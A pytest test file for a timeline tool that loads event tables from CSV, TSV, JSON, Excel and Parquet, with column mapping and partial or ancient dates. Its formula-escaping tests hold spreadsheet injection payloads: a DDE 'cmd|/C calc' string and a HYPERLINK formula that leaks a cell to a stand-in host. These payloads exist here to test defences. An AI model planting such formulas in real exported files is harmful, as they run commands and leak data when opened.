"""Every format loads into the one validated event table: CSV, TSV, JSON, Excel, Parquet;
tables with their own column names; partial and far-past dates."""

from __future__ import annotations

import datetime as dt
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from timeline.dataset import Dataset, ReadOptions
from timeline.figures import EVENT_TRACE, fig_actors, timeline_figure
from timeline.formats import DATA_FORMATS, escape_formula, unescape_formula
from timeline.io import load_events, read_events, write_events
from timeline.mapping import SYNONYMS, apply_mapping, parse_mapping_pairs, read_mapping_file
from timeline.schema import COLUMN_NAMES, ValidationError

HEADER = "id,start,actor,kind,title"


def csv_bytes(*rows: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


def problems_of(data: bytes, name: str, options: ReadOptions | None = None) -> list[tuple[int | None, str | None, str]]:
    with pytest.raises(ValidationError) as caught:
        read_events(data, name, options)
    return [(p.row, p.column, p.rule) for p in caught.value.problems]


# ---------------------------------------------------------------- each format


@pytest.mark.parametrize("fmt", DATA_FORMATS)
def test_each_format_round_trips_the_seed(seed: Dataset, fmt: str) -> None:
    data = write_events(seed.events, fmt)
    back = read_events(data, f"events.{fmt}")
    pd.testing.assert_frame_equal(back.events, seed.events)


@pytest.mark.parametrize("fmt", DATA_FORMATS)
def test_convert_between_every_pair_of_formats(seed: Dataset, fmt: str) -> None:
    events = seed.events
    for target in DATA_FORMATS:
        events = read_events(write_events(events, target), f"x.{target}").events
    pd.testing.assert_frame_equal(read_events(write_events(events, fmt), f"y.{fmt}").events, seed.events)


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_csv_delimiter_is_guessed_from_the_header(delimiter: str) -> None:
    data = csv_bytes("a,2022-02-24,Kyiv,statement,Said").decode().replace(",", delimiter).encode()
    assert read_events(data, "e.csv").events["actor"].tolist() == ["Kyiv"]


def test_tsv_cells_may_hold_commas() -> None:
    data = b"id\tstart\tactor\tkind\ttitle\na\t2022\tSmith, J.\tclaim\tA, B and C\n"
    assert read_events(data, "e.tsv").events[["actor", "title"]].iloc[0].tolist() == ["Smith, J.", "A, B and C"]


def test_quoted_csv_cells_keep_line_breaks_and_source_lines() -> None:
    data = csv_bytes('a,2022,X,claim,"two\nlines"', "b,2022-13,Y,claim,t")
    with pytest.raises(ValidationError) as caught:
        read_events(data, "e.csv")
    (problem,) = caught.value.problems
    assert (problem.row, problem.line, problem.column) == (2, 4, "start")


@pytest.mark.parametrize(
    "document",
    [
        [{"id": "a", "start": "2022", "actor": "X", "kind": "claim", "title": "T"}],
        {"events": [{"id": "a", "start": "2022", "actor": "X", "kind": "claim", "title": "T"}], "title": "Story"},
    ],
)
def test_json_records_or_an_events_object(document: object) -> None:
    dataset = read_events(json.dumps(document).encode(), "e.json")
    assert dataset.events["title"].tolist() == ["T"]
    assert dataset.title == ("Story" if isinstance(document, dict) else "")


def test_json_numbers_booleans_and_id_lists_become_text() -> None:
    records = [
        {"id": "a", "start": 2022, "actor": "X", "kind": "claim", "title": "T", "approximate": True},
        {"id": "b", "start": "2022-03", "actor": "X", "kind": "denial", "title": "U", "responds_to": ["a"]},
    ]
    events = read_events(json.dumps(records).encode(), "e.json").events
    assert events["start"].tolist() == ["2022", "2022-03"]
    assert events["approximate"].tolist() == [True, False]
    assert events["responds_to"].tolist() == ["", "a"]


def test_excel_typed_cells_become_text() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["ID", "Start", "End", "Actor", "Kind", "Title", "Approximate"])
    sheet.append(["a", dt.datetime(2022, 2, 24), dt.date(2022, 3, 1), "X", "claim", "T", True])
    sheet.append([None, None, None, None, None, None, None])  # blank rows are skipped
    sheet.append(["b", 2022, None, "Y", "report", 42, False])
    buffer = io.BytesIO()
    book.save(buffer)
    events = read_events(buffer.getvalue(), "e.xlsx").events
    assert events["start"].tolist() == ["2022-02-24", "2022"]
    assert events["end"].tolist() == ["2022-03-01", ""]
    assert events["title"].tolist() == ["T", "42"]
    assert events["approximate"].tolist() == [True, False]


def test_excel_problems_give_the_spreadsheet_row() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["id", "start", "actor", "kind", "title"])
    sheet.append(["a", "2022", "X", "claim", "T"])
    sheet.append(["b", "2022", "X", "rumour", "T"])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(ValidationError) as caught:
        read_events(buffer.getvalue(), "e.xlsx")
    (problem,) = caught.value.problems
    assert (problem.row, problem.line, problem.column, problem.value) == (2, 3, "kind", "rumour")


def test_parquet_typed_columns_become_text() -> None:
    frame = pd.DataFrame(
        {
            "id": ["a", "b"],
            "start": pd.to_datetime(["2022-02-24", "2022-03-01"]),
            "actor": ["X", "Y"],
            "kind": ["claim", "report"],
            "title": ["T", "U"],
            "approximate": [True, False],
            "count": pd.array([1, None], dtype="Int64"),
        }
    )
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)
    events = read_events(buffer.getvalue(), "e.parquet").events
    assert events["start"].tolist() == ["2022-02-24", "2022-03-01"]
    assert events["approximate"].tolist() == [True, False]
    assert events["count"].tolist() == ["1", ""]


def test_extra_columns_survive_every_format() -> None:
    data = csv_bytes("a,2022,X,claim,T,red", header=HEADER + ",colour")
    events = read_events(data, "e.csv").events
    for fmt in DATA_FORMATS:
        assert read_events(write_events(events, fmt), f"e.{fmt}").events["colour"].tolist() == ["red"]


@pytest.mark.parametrize("value", ["=1+1", "+33 1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=already", "plain", "\t=1"])
def test_formulas_are_neutralised_in_csv_and_restored_on_reading(value: str) -> None:
    escaped = escape_formula(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t"))
    assert unescape_formula(escaped) == value


@pytest.mark.parametrize("value", ["-5", "+44", "-33.9", "1e-3", "-.5"])
def test_a_plain_number_is_no_formula_and_is_written_as_it_is(value: str) -> None:
    assert escape_formula(value) == value


HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A2,"x")'


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
def test_a_column_name_that_is_a_formula_is_neutralised_like_a_cell(seed: Dataset, fmt: str) -> None:
    events = seed.events.assign(**{HOSTILE: "=1+1"})
    data = write_events(events, fmt)
    if fmt == "xlsx":
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing a spreadsheet would run
        assert HOSTILE in [c.value for c in cells]
    else:
        header = data.decode().split("\n", 1)[0]
        assert "'=HYPERLINK" in header
        assert not any(cell.strip('"').startswith("=") for cell in header.split("\t" if fmt == "tsv" else ","))
    back = read_events(data, f"e.{fmt}").events
    assert back[HOSTILE].tolist() == ["=1+1"] * len(events)  # and it reads back exactly


def test_apostrophes_in_a_file_the_tool_did_not_write_are_kept() -> None:
    data = csv_bytes("a,2022,X,claim,'=not mine", "b,2023,X,claim,'-5", header=HEADER)
    assert read_events(data, "e.csv").events["title"].tolist() == ["'=not mine", "'-5"]


def test_apostrophes_the_tool_wrote_are_removed_on_reading(seed: Dataset) -> None:
    events = seed.events.copy()
    events.loc[0, "title"] = "=1+1"
    events.loc[1, "title"] = "'=2"
    for fmt in ("csv", "tsv", "timelinejs"):
        data = write_events(events, fmt)
        suffix = ".timelinejs.csv" if fmt == "timelinejs" else f".{fmt}"
        back = read_events(data, "e" + suffix).events
        assert back.loc[0, "title"] == "=1+1"
        assert back.loc[1, "title"] == "'=2"


def test_a_lone_carriage_return_is_quoted_so_it_cannot_end_a_row(seed: Dataset) -> None:
    events = seed.events.copy()
    events.loc[0, "title"] = "\r=1+1"
    data = write_events(events, "csv")
    assert b'"\'\r=1+1"' in data
    back = read_events(data, "e.csv").events
    assert len(back) == len(events)
    assert back.loc[0, "title"] == "=1+1"  # readers turn line breaks into \n, then strip the cell


def test_line_breaks_and_control_characters_read_the_same_in_every_format() -> None:
    data = csv_bytes('a,2022,X,claim,"one\r\ntwo\x07"')
    assert read_events(data, "e.csv").events["title"].tolist() == ["one\ntwo"]


# ---------------------------------------------------------------- column mapping


def test_common_column_names_are_recognised() -> None:
    data = b"Date,Speaker,Headline,Description\n2022-02-24,Kyiv,Said a thing,Longer\n"
    events = read_events(data, "e.csv").events
    row = events.iloc[0]
    assert (row["start"], row["actor"], row["title"], row["summary"]) == (
        "2022-02-24",
        "Kyiv",
        "Said a thing",
        "Longer",
    )
    assert (row["id"], row["kind"]) == ("row-1", "event")


@pytest.mark.parametrize(
    "header",
    ["date,group,headline", "Start Date,Who,Event", "start_date,ACTOR,title", "when,person,label", "from,name,event"],
)
def test_synonyms_ignore_case_spaces_and_underscores(header: str) -> None:
    events = read_events(f"{header},to\n2022,A,B,2023\n".encode(), "e.csv").events
    assert events[["start", "actor", "end"]].iloc[0].tolist() == ["2022", "A", "2023"]


@pytest.mark.parametrize(
    ("actor", "target"), [("Source Name", "Target Name"), ("source actor", "target_actor"), ("Speaker", "Recipient")]
)
def test_icews_and_gdelt_names_give_the_actor_and_its_target(actor: str, target: str) -> None:
    data = f"Date,{actor},{target},Headline,Source\n2022-02-24,Kyiv,Moscow,Said,https://x.org\n".encode()
    events = read_events(data, "icews.csv").events
    assert events[["actor", "target", "source"]].iloc[0].tolist() == ["Kyiv", "Moscow", "https://x.org"]


def test_every_synonym_targets_a_schema_column() -> None:
    assert set(SYNONYMS) <= set(COLUMN_NAMES)


def test_an_explicit_mapping_wins_over_synonyms_and_same_named_columns() -> None:
    data = b"Date,Published,Speaker,actor,Headline\n2022-02-24,2022-03-01,Kyiv,ignored,Said\n"
    options = ReadOptions(mapping=parse_mapping_pairs(["start=Published", "actor=Speaker"]))
    events = read_events(data, "e.csv", options).events
    assert events[["start", "actor"]].iloc[0].tolist() == ["2022-03-01", "Kyiv"]
    assert "Date" in events.columns  # not used: kept as an extra column


def test_one_column_may_feed_two() -> None:
    options = ReadOptions(mapping={"actor": "Name", "title": "Name", "start": "Year"})
    events = read_events(b"Name,Year\nAda,1843\n", "e.csv", options).events
    assert events[["actor", "title"]].iloc[0].tolist() == ["Ada", "Ada"]


def test_mapping_mistakes_are_reported_together() -> None:
    options = ReadOptions(mapping={"speaker": "Who", "actor": "Nobody"})
    found = problems_of(b"Who,Date,Title\nX,2022,T\n", "e.csv", options)
    rules = " | ".join(r for _, _, r in found)
    assert "'speaker', which is not a column of the event table" in rules
    assert "column 'Nobody', which is not in the file" in rules


def test_mapping_pairs_must_have_an_equals_sign() -> None:
    with pytest.raises(ValueError, match="COLUMN=SOURCE"):
        parse_mapping_pairs(["actor"])


def test_a_mapping_file(tmp_path: Path) -> None:
    path = tmp_path / "mapping.json"
    path.write_text('{"Actor": "Who", "start": "When"}', encoding="utf-8")
    assert read_mapping_file(path) == {"actor": "Who", "start": "When"}
    path.write_text('["not", "an", "object"]', encoding="utf-8")
    with pytest.raises(ValidationError, match="JSON object"):
        read_mapping_file(path)
    with pytest.raises(ValidationError, match="unreadable mapping file"):
        read_mapping_file(tmp_path / "missing.json")


def test_columns_differing_only_in_case_are_refused() -> None:
    table = pd.DataFrame({"Title": ["a"], "title": ["b"]}, dtype="str")
    with pytest.raises(ValidationError, match="both 'Title' and 'title'"):
        apply_mapping(table, "e.csv", {})


# ---------------------------------------------------------------- a wider real table


def test_us_presidents_load_with_a_mapping_and_draw_one_lane_per_label(testdata: Path) -> None:
    path = testdata / "historicaldate" / "US_presidents.csv"
    options = ReadOptions(mapping={"actor": "label", "title": "description", "start": "hdate", "end": "hdate_end"})
    dataset = load_events(path, options)
    events = dataset.events
    raw = pd.read_csv(path, dtype=str)
    assert len(events) == len(raw)
    assert events.loc[0, ["actor", "title", "start", "end", "precision"]].tolist() == [
        "Washington", "George Washington (1)", "1789-04-30", "1797-03-04", "day",
    ]  # fmt: skip
    assert events.loc[0, "source"] == "https://en.wikipedia.org/wiki/George_Washington"  # url: a synonym
    assert events.loc[0, "colour"] == "darkgray"  # unknown columns are kept
    fig = timeline_figure(events)
    assert sorted(set(fig_actors(fig))) == sorted(set(raw["label"]))
    assert fig["layout"]["xaxis"]["type"] == "date"


def test_us_presidents_load_without_being_told(testdata: Path) -> None:
    events = load_events(testdata / "historicaldate" / "US_presidents.csv").events
    assert events.loc[0, ["actor", "title", "summary"]].tolist() == [
        "Washington",
        "Washington",
        "George Washington (1)",
    ]


# ---------------------------------------------------------------- dates in tables


def test_partial_dates_in_a_table_get_their_precision() -> None:
    rows = ["a,2022,X,claim,T", "b,2022-02,X,claim,T", "c,Feb 2022,X,claim,T", "d,24 February 2022,X,claim,T"]
    events = read_events(csv_bytes(*rows), "e.csv").events
    assert events["start"].tolist() == ["2022", "2022-02", "2022-02", "2022-02-24"]
    assert events["precision"].tolist() == ["year", "month", "month", "day"]


@pytest.mark.parametrize(("order", "expected"), [("dmy", "2024-02-12"), ("mdy", "2024-12-02")])
def test_a_declared_date_order_reads_numeric_dates(order: str, expected: str) -> None:
    data = csv_bytes("a,12/02/2024,X,claim,T")
    events = read_events(data, "e.csv", ReadOptions(date_order=order)).events  # type: ignore[arg-type]
    assert events["start"].tolist() == [expected]


def test_an_undeclared_ambiguous_date_is_refused_with_its_row() -> None:
    ((row, column, rule),) = problems_of(csv_bytes("a,12/02/2024,X,claim,T"), "e.csv")
    assert (row, column) == (1, "start")
    assert "declare the order" in rule


def test_1066_draws_on_the_date_axis() -> None:
    data = csv_bytes("hastings,1066-10-14,Normans,action,Battle of Hastings", "domesday,1086,Normans,report,Domesday")
    events = read_events(data, "e.csv").events
    fig = timeline_figure(events)
    assert fig["layout"]["xaxis"]["type"] == "date"
    markers = [x for trace in fig["data"] if trace.get("meta") == EVENT_TRACE for x in trace["x"].tolist()]
    assert min(pd.Timestamp(int(x), unit="ms") for x in markers).year == 1066
    assert events["lo"].min() == pd.Timestamp("1066-10-14")


def test_an_ambiguous_negative_year_is_refused_naming_the_row() -> None:
    found = problems_of(csv_bytes("a,2022,X,claim,T", "b,-44,Caesar,action,Crossing"), "e.csv")
    assert found == [
        (2, "start", "is not a date: -44 is ambiguous: write 44 BC, or a year of four digits as ISO 8601 does "
         "(-0044 is 45 BC)")
    ]  # fmt: skip
